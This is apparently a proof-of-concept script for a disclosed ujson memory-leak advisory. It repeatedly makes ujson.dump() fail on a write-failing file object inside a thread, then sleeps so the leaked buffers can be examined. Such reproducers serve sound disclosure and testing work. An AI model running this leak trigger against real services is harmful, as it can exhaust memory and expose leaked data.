"""ujson up to 5.12.0 leaks the whole text when ujson.dump() is given a file that fails to write it.

CVE-2026-44660, GHSA-c38f-wx89-p2xg, https://github.com/ultrajson/ultrajson, fixed in 5.12.1.
The text is a str of 1,000 characters: 48 bytes of header and a null byte more, as one block of malloc.
"""

import sys
import threading
import time

import ujson


class Full:
    def write(self, text: str) -> None:
        raise OSError("no space left on device")


def fail(text: str) -> None:
    try:
        ujson.dump(text, Full())
    except OSError:
        pass


def serve() -> None:
    data = "x" * 998
    for _ in range(int(sys.argv[1])):
        fail(data)
    fail("short")  # otherwise a freed tuple of arguments may still point to the last text


# In a thread, as in a server: its arena is far above 2**32, and a Python process contains many numbers below 2**32.
worker = threading.Thread(target=serve)
worker.start()
worker.join()
print("ready", flush=True)
time.sleep(3600)
